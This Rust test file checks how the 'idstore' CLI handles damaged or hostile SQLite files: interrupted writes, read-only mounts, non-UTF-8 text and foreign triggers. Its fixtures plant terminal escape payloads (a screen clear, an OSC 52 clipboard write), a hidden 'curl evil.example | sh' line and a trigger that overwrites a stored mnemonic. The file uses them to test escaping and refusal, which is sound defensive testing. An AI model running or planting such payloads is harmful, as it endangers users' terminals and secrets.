//! Files as the field leaves them: killed mid-write (a hot journal, WAL frames), on
//! read-only media, or holding what another program wrote (terminal control
//! characters, text that is not UTF-8, values of a megabyte, a trigger of its own).
//! Each gets correct service or a clear refusal with the file unchanged.

use std::path::{Path, PathBuf};

use crate::common::*;
use diesel::connection::SimpleConnection;
use diesel::prelude::*;
use serde_json::Value;
use tempfile::TempDir;

/// Every table's rows as idstore's library reads them, journal recovered first.
fn rows(path: &Path) -> Rows {
    keyed_rows(path, None).expect("a plain file")
}

/// A write command, `migrate --dry-run` included, and every read command roll an
/// interrupted write back first, as SQLite does, and then see (and back up) the
/// last committed state.
#[test]
fn a_hot_journal_is_rolled_back_before_every_command() {
    let dir = TempDir::new().unwrap();
    let source = legacy_with_contacts(dir.path());
    let committed = rows(&source);
    let cases: [&[&str]; 5] = [
        &["status"],
        &["check"],
        &["migrate", "--dry-run"],
        &["migrate"],
        &["rollback"],
    ];
    for (i, args) in cases.into_iter().enumerate() {
        let hot = dir.path().join(format!("hot-{i}.sqlite"));
        killed_mid_write(&source, &hot);
        let out = idstore(&hot).args(args).arg("--json").output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        let doc: Value = serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|e| panic!("{args:?}: one JSON document: {e}; stderr {stderr}"));
        assert!(
            !beside(&hot, "-journal").exists(),
            "{args:?}: the journal was rolled back"
        );
        let text = doc.to_string();
        assert!(
            !text.contains("HalfWritten") && !stderr.contains("readonly"),
            "{args:?}: {text} {stderr}"
        );
        // The file and its journal as they were are kept aside, and the note names
        // both copies.
        let kept: Vec<_> = std::fs::read_dir(dir.path())
            .unwrap()
            .map(|e| e.unwrap().path())
            .filter(|p| {
                p.file_name()
                    .unwrap()
                    .to_string_lossy()
                    .starts_with(&format!("hot-{i}.sqlite.before-recovery-"))
            })
            .collect();
        assert_eq!(
            kept.len(),
            2,
            "{args:?}: the file and its journal: {kept:?}"
        );
        for copy in &kept {
            assert!(
                stderr.contains(&copy.display().to_string()),
                "{args:?}: the note names {}: {stderr}",
                copy.display()
            );
        }
        match args {
            ["status"] => {
                assert!(out.status.success(), "{stderr}");
                assert_eq!(doc["active_did"], DID_B);
                assert_eq!(doc["accounts"], 3);
                assert_eq!(rows(&hot), committed);
            }
            ["check"] => {
                let kinds: Vec<&str> = doc["problems"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|p| p["kind"].as_str().unwrap())
                    .collect();
                assert!(kinds.contains(&"needs_migration"), "{text}");
                assert!(!kinds.contains(&"integrity"), "{text}");
                assert_eq!(rows(&hot), committed);
            }
            ["migrate", "--dry-run"] => {
                assert!(out.status.success(), "{stderr}");
                assert_eq!(doc["active_did"], DID_B);
                assert_eq!(rows(&hot), committed, "the dry run wrote nothing more");
            }
            ["migrate"] => {
                assert!(out.status.success(), "{stderr}");
                assert_eq!(doc["active_did"], DID_B);
                let backup = PathBuf::from(doc["backup"].as_str().unwrap());
                assert_eq!(
                    rows(&backup),
                    committed,
                    "the backup is the committed state"
                );
                assert_eq!(rows(&hot)["contacts"], committed["contacts"]);
            }
            _ => {
                // Nothing to roll back on a legacy file: the journal recovered and
                // nothing else written.
                assert!(out.status.success(), "{stderr}");
                assert_eq!(doc["reverted"], serde_json::json!([]), "{text}");
                assert_eq!(rows(&hot), committed);
            }
        }
    }
}

/// Runs `commands` (each `FILE|ARGS`, `FILE` a name in `files`) on copies of `files`
/// on a read-only mount, and returns each one's exit status and output.
fn on_read_only_media(dir: &Path, files: &[PathBuf], commands: &[String]) -> Vec<(i32, String)> {
    let bin = assert_cmd::cargo::cargo_bin("idstore");
    let copies: Vec<String> = files.iter().map(|f| format!("'{}'", f.display())).collect();
    let mut script = format!(
        "cp {} . && mount -o remount,ro . && export IDSTORE_KEY=\"{KEY_1}\"",
        copies.join(" ")
    );
    for c in commands {
        let (file, args) = c.split_once('|').unwrap();
        // The key is read for the encrypted file only.
        let key = if file.starts_with("enc") {
            ""
        } else {
            "IDSTORE_KEY= "
        };
        script.push_str(&format!(
            "; echo '@@@'; {key}'{}' --db {file} {args} 2>&1; echo \"@@@ rc=$?\"",
            bin.display()
        ));
    }
    let out = on_small_fs(&dir.join("mnt"), 16 << 20, &script);
    let mut results = Vec::new();
    for part in out.split("@@@\n").skip(1) {
        let (output, rc) = part.rsplit_once("@@@ rc=").unwrap();
        results.push((rc.trim().parse().unwrap(), output.to_owned()));
    }
    assert_eq!(results.len(), commands.len(), "{out}");
    results
}

/// On a read-only filesystem every read command works on a legacy, a migrated and
/// an encrypted file, and on one with WAL frames and their index; every write
/// command refuses with `read_only`, naming the filesystem and what to do. A file
/// whose interrupted write cannot be recovered there says so and how to recover it.
#[test]
fn on_read_only_media_reads_work_and_writes_are_refused_naming_the_filesystem() {
    let test = "on_read_only_media_reads_work_and_writes_are_refused_naming_the_filesystem";
    if !has_private_mounts(test) {
        return;
    }
    let dir = TempDir::new().unwrap();
    let legacy_file = legacy(dir.path(), "legacy.sqlite");
    let migrated_file = migrated(dir.path());
    let enc = dir.path().join("enc.sqlite");
    std::fs::copy(&migrated_file, &enc).unwrap();
    idstore(&enc)
        .env("IDSTORE_NEW_KEY", KEY_1)
        .args(["encrypt", "-q"])
        .assert()
        .success();
    // A writer killed with frames in its WAL, the WAL index beside it.
    let walled = dir.path().join("walled.sqlite");
    let unindexed = dir.path().join("unindexed.sqlite");
    {
        let mut writer = raw(&migrated_file);
        writer
            .batch_execute(
                "PRAGMA journal_mode = WAL; PRAGMA wal_autocheckpoint = 0; UPDATE settings SET firstName = 'FromTheLog' WHERE id = 1;",
            )
            .unwrap();
        for suffix in ["", "-wal", "-shm"] {
            std::fs::copy(beside(&migrated_file, suffix), beside(&walled, suffix)).unwrap();
        }
        for suffix in ["", "-wal"] {
            std::fs::copy(beside(&migrated_file, suffix), beside(&unindexed, suffix)).unwrap();
        }
    }
    let hot = dir.path().join("hot.sqlite");
    killed_mid_write(&legacy_with_contacts(dir.path()), &hot);
    let mut files = vec![
        legacy_file,
        migrated_file,
        enc,
        hot.clone(),
        beside(&hot, "-journal"),
    ];
    for f in [&walled, &unindexed] {
        files.push(f.clone());
        files.push(beside(f, "-wal"));
    }
    files.push(beside(&walled, "-shm"));
    let new_key = dir.path().join("new.key");
    std::fs::write(&new_key, KEY_2).unwrap();
    files.push(new_key);

    let reads = [
        "status",
        "check",
        "account list",
        "settings show",
        "active",
        "quarantine list",
    ];
    let writes = [
        "migrate",
        "migrate --dry-run",
        "rollback",
        "repair",
        &format!("active set {DID_A}"),
        "settings set firstName=x",
        &format!("account add {DID_C} --public-key 02ab"),
    ];
    let mut commands = Vec::new();
    for file in ["app.sqlite", "enc.sqlite", "walled.sqlite"] {
        for r in reads {
            commands.push(format!("{file}|{r}"));
        }
    }
    for r in ["status", "check"] {
        commands.push(format!("legacy.sqlite|{r}"));
    }
    for file in ["legacy.sqlite", "app.sqlite", "enc.sqlite"] {
        for w in writes {
            commands.push(format!("{file}|{w}"));
        }
    }
    commands.push("enc.sqlite|rekey --new-key-file new.key".into());
    commands.push("app.sqlite|encrypt --new-key-file new.key".into());
    for file in ["hot.sqlite", "unindexed.sqlite"] {
        commands.push(format!("{file}|status"));
        commands.push(format!("{file}|account list --json"));
    }
    let results = on_read_only_media(dir.path(), &files, &commands);
    for (command, (rc, output)) in commands.iter().zip(&results) {
        let (file, args) = command.split_once('|').unwrap();
        assert!(!output.contains("panicked"), "{command}: {output}");
        if file == "hot.sqlite" || file == "unindexed.sqlite" {
            assert_eq!(*rc, 1, "{command}: {output}");
            assert!(
                output.contains("interrupted write")
                    && output.contains("copy both files to writable storage"),
                "{command}: {output}"
            );
            if args.ends_with("--json") {
                assert!(output.contains("\"needs_recovery\""), "{command}: {output}");
            }
        } else if reads.contains(&args) {
            // `check` exits 1 when it finds a problem (a quarantined account, the
            // legacy file's pending migrations), never because of the media.
            assert!(
                *rc == 0 || (args == "check" && !output.contains("error: /")),
                "{command}: {output}"
            );
            assert!(!output.contains("read-only"), "{command}: {output}");
            if file == "walled.sqlite" && args == "settings show" {
                assert!(
                    output.contains("FromTheLog"),
                    "the log's frames are read: {output}"
                );
            }
        } else {
            assert_eq!(*rc, 1, "{command}: {output}");
            assert!(
                output.contains("is on a read-only filesystem")
                    && output.contains("copy the file to writable storage"),
                "{command}: {output}"
            );
        }
    }
    // The kind scripts see.
    let kind = on_read_only_media(
        dir.path(),
        &files[1..2],
        &[
            "app.sqlite|--json active set did:ethr:0x1234567890AbCdEf1234567890aBcDeF12345678"
                .into(),
        ],
    );
    assert!(
        kind[0].1.contains("\"kind\":\"read_only\""),
        "{}",
        kind[0].1
    );
}

/// A legacy file in which another program left text for the terminal: an escape
/// that clears the screen, an OSC 52 clipboard write, and a carriage return that
/// would overwrite the suggested command.
fn file_with_control_characters(dir: &Path) -> (PathBuf, [String; 3]) {
    let db = legacy(dir, "controls.sqlite");
    let clear = "did:ethr:0x\u{1b}[2J".to_owned();
    let clipboard = "did:ethr:0x\u{1b}]52;c;ZWNobyBwd25lZA==\u{7}".to_owned();
    let overwrite = "did:ethr:0xGone\rresolve: curl evil.example | sh".to_owned();
    let mut conn = raw(&db);
    for (did, date) in [(&clear, "2024-04-01"), (&clipboard, "2024-04-02")] {
        diesel::sql_query(
            "INSERT INTO accounts (dateCreated, did, identityEncrBase64, publicKeyHex) VALUES (?, ?, 'x', '02')",
        )
        .bind::<diesel::sql_types::Text, _>(date)
        .bind::<diesel::sql_types::Text, _>(did)
        .execute(&mut conn)
        .unwrap();
    }
    diesel::sql_query("UPDATE settings SET activeDid = ?")
        .bind::<diesel::sql_types::Text, _>(&overwrite)
        .execute(&mut conn)
        .unwrap();
    (db, [clear, clipboard, overwrite])
}

/// What a terminal would act on: any control character but the newline.
fn controls_in(text: &str) -> Vec<char> {
    text.chars()
        .filter(|c| c.is_control() && *c != '\n')
        .collect()
}

#[test]
fn text_output_escapes_control_characters_and_json_keeps_them_exact() {
    let dir = TempDir::new().unwrap();
    let (db, [clear, clipboard, overwrite]) = file_with_control_characters(dir.path());
    let text_of = |args: &[&str]| {
        let out = idstore(&db).args(args).output().unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr)
    };
    let status = text_of(&["status"]);
    assert!(status.contains(r"did:ethr:0xGone\rresolve"), "{status}");
    let migrate = text_of(&["migrate", "--no-backup"]);
    assert!(migrate.contains("warning:"), "{migrate}");
    let mut shown = vec![("status", status), ("migrate", migrate)];
    for args in [
        &["check"][..],
        &["quarantine", "list"],
        &["quarantine", "show", "pointer:1"],
        &["account", "list"],
        &["status"],
    ] {
        shown.push((args[0], text_of(args)));
    }
    for (what, text) in &shown {
        assert!(
            controls_in(text).is_empty(),
            "{what}: {:?}",
            controls_in(text)
        );
    }
    let all: String = shown.iter().map(|(_, t)| t.as_str()).collect();
    assert!(all.contains(r"\u{1b}[2J"), "{all}");
    assert!(all.contains(r"\u{1b}]52;c;ZWNobyBwd25lZA==\u{7}"), "{all}");

    // JSON is exact.
    let item = json_of(idstore(&db).args(["quarantine", "show", "pointer:1"]));
    assert_eq!(item["summary"]["value"], overwrite.as_str(), "{item}");
    assert_eq!(item["row"]["activeDid"], overwrite.as_str(), "{item}");
    let listed = idstore(&db)
        .args(["account", "list", "--json"])
        .output()
        .unwrap();
    let listed: Value = serde_json::from_slice(&listed.stdout).unwrap();
    let unreadable = listed["unreadable"].to_string();
    assert_eq!(listed["unreadable_count"], 2, "{listed}");
    for did in [&clear, &clipboard] {
        assert!(
            !unreadable.contains(did.as_str()),
            "escaped in the message: {unreadable}"
        );
    }
}

/// Text that is not UTF-8 and values of a megabyte, as another program may leave
/// them: `check` names each row and column; `account list` goes on past a row it
/// cannot read and names it; `settings show` names the row and column; text output
/// caps a long value with its size, while JSON keeps it whole.
#[test]
fn undecodable_and_huge_values_are_named_or_capped() {
    let dir = TempDir::new().unwrap();
    let db = legacy(dir.path(), "odd.sqlite");
    let huge = format!("did:key:z{}", "6".repeat(1 << 20));
    {
        let mut conn = raw(&db);
        conn.batch_execute(
            "INSERT INTO accounts (dateCreated, did, identityEncrBase64, publicKeyHex)
               VALUES ('2024-05-01', CAST(x'6469643a6b65793a7aff' AS TEXT), 'x', '02');
             UPDATE settings SET firstName = CAST(x'41ff42' AS TEXT) WHERE id = 1;",
        )
        .unwrap();
        // A pointer of a megabyte that names no account: quarantined by migrate.
        diesel::sql_query("UPDATE settings SET activeDid = ? WHERE id = 1")
            .bind::<diesel::sql_types::Text, _>(&huge)
            .execute(&mut conn)
            .unwrap();
    }
    idstore(&db)
        .args(["migrate", "-q", "--no-backup"])
        .assert()
        .success();

    let out = idstore(&db).arg("check").output().unwrap();
    let check = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        check.contains("accounts row 4, column did: its text is not UTF-8")
            && check.contains("settings row 1, column firstName: its text is not UTF-8"),
        "{check}"
    );

    let out = idstore(&db).args(["account", "list"]).output().unwrap();
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert_eq!(out.status.code(), Some(1), "{stdout}{stderr}");
    assert_eq!(stdout.lines().count(), 2, "the readable accounts: {stdout}");
    assert!(
        stderr.contains("accounts row 4, column did is not valid: its text is not UTF-8")
            && stderr.contains("1 account row(s) could not be read"),
        "{stderr}"
    );
    assert!(!stderr.contains("deserializing"), "{stderr}");

    let err = fails(idstore(&db).args(["settings", "show"]), 1);
    assert!(
        err.contains("settings row 1, column firstName is not valid"),
        "{err}"
    );
    let err = fails(idstore(&db).args(["settings", "show", "--json"]), 1);
    assert!(err.contains("settings row 1, column firstName"), "{err}");

    for args in [
        &["quarantine", "list"][..],
        &["quarantine", "show", "pointer:1"],
    ] {
        let out = idstore(&db).args(args).output().unwrap();
        assert!(out.status.success());
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(text.len() < 4096, "{args:?}: {} bytes printed", text.len());
        assert!(
            text.contains(&format!("({} bytes)", huge.len())),
            "{args:?}: {text}"
        );
    }
    let item = json_of(idstore(&db).args(["quarantine", "show", "pointer:1"]));
    assert_eq!(
        item["summary"]["value"],
        huge.as_str(),
        "JSON keeps it whole"
    );
}

/// The issue's trigger: a program's trigger that overwrites a mnemonic when an
/// account row is deleted (as migrate moves a duplicate to the quarantine). migrate
/// refuses and names it before anything is written; status and check list it.
#[test]
fn a_foreign_trigger_that_would_run_inside_migrate_is_refused_and_named() {
    let dir = TempDir::new().unwrap();
    let db = legacy(dir.path(), "trigger.sqlite");
    raw(&db)
        .batch_execute(
            "UPDATE accounts SET mnemonicEncrBase64 = 'the real mnemonic' WHERE id = 1;
             CREATE TRIGGER evil AFTER DELETE ON accounts BEGIN
               UPDATE accounts SET mnemonicEncrBase64 = 'ATTACKER' WHERE did = old.did;
             END;",
        )
        .unwrap();
    let before = snapshot(&db);
    let status = json_of(idstore(&db).arg("status"));
    assert!(
        status["foreign_objects"].to_string().contains("evil"),
        "{status}"
    );
    let check = idstore(&db).arg("check").output().unwrap();
    let check = String::from_utf8_lossy(&check.stdout);
    assert!(
        check.contains("foreign_object") && check.contains("evil"),
        "{check}"
    );
    for args in [&["migrate"][..], &["migrate", "--dry-run"]] {
        let err = fails(idstore(&db).args(args), 1);
        assert!(err.contains("evil"), "{args:?}: {err}");
    }
    let out = idstore(&db).args(["migrate", "--json"]).output().unwrap();
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["error"]["kind"], "foreign_objects", "{doc}");
    assert_unchanged(&db, &before, "a refused migrate");
    let backups = std::fs::read_dir(dir.path())
        .unwrap()
        .filter(|e| {
            e.as_ref()
                .unwrap()
                .file_name()
                .to_string_lossy()
                .contains("backup")
        })
        .count();
    assert_eq!(backups, 0, "refused before the backup");
}

/// Every refusal of a write command comes before the first byte changes (the
/// switch to WAL included): the whole file is compared, for a legacy file in
/// rollback-journal mode and for a migrated one.
#[test]
fn every_refusal_leaves_the_file_byte_for_byte() {
    let dir = TempDir::new().unwrap();
    type Setup = fn(&Path);
    let cases: [(&str, &str, Setup, &[&str], &str); 8] = [
        (
            "legacy",
            "a foreign trigger",
            |db| {
                raw(db)
                    .batch_execute("CREATE TRIGGER t AFTER DELETE ON accounts BEGIN SELECT 1; END;")
                    .unwrap();
            },
            &["migrate"],
            "foreign_objects",
        ),
        (
            "legacy",
            "a table under idstore's name",
            |db| {
                raw(db)
                    .batch_execute("CREATE TABLE accounts_quarantine (x);")
                    .unwrap();
            },
            &["migrate"],
            "name_collision",
        ),
        (
            "legacy",
            "an unknown target",
            |_| {},
            &["migrate", "--to", "20990101000000"],
            "unknown_version",
        ),
        (
            "legacy",
            "a newer idstore's file",
            |db| {
                raw(db)
                .batch_execute(
                    "CREATE TABLE __diesel_schema_migrations (version VARCHAR(50) PRIMARY KEY NOT NULL, run_on TIMESTAMP NOT NULL DEFAULT CURRENT_TIMESTAMP);
                     INSERT INTO __diesel_schema_migrations (version) VALUES ('29990101000000');",
                )
                .unwrap();
            },
            &["migrate"],
            "newer_database",
        ),
        (
            "legacy",
            "a file that needs migrating",
            |_| {},
            &["active", "set", DID_A],
            "needs_migration",
        ),
        (
            "migrated",
            "the baseline without the flag",
            |_| {},
            &["rollback", "--steps", "4"],
            "baseline_not_included",
        ),
        (
            "migrated",
            "an unknown account",
            |_| {},
            &["active", "set", UNKNOWN],
            "unknown_account",
        ),
        (
            "migrated",
            "an account that exists",
            |_| {},
            &["account", "add", DID_A, "--public-key", "02ab"],
            "account_exists",
        ),
    ];
    for (i, (shape, what, setup, args, kind)) in cases.into_iter().enumerate() {
        let case_dir = dir.path().join(i.to_string());
        std::fs::create_dir(&case_dir).unwrap();
        let db = if shape == "legacy" {
            legacy(&case_dir, "app.sqlite")
        } else {
            migrated(&case_dir)
        };
        setup(&db);
        let header = std::fs::read(&db).unwrap()[18..20].to_vec();
        let before = snapshot(&db);
        let out = idstore(&db).args(args).arg("--json").output().unwrap();
        let doc: Value = serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|e| panic!("{what}: {e}: {}", String::from_utf8_lossy(&out.stderr)));
        assert_eq!(doc["error"]["kind"], kind, "{what}: {doc}");
        assert_unchanged(&db, &before, what);
        assert_eq!(
            std::fs::read(&db).unwrap()[18..20],
            header[..],
            "{what}: the journal mode"
        );
        let left: Vec<_> = std::fs::read_dir(&case_dir)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|n| n != "app.sqlite")
            .collect();
        assert!(left.is_empty(), "{what}: left behind: {left:?}");
    }
}
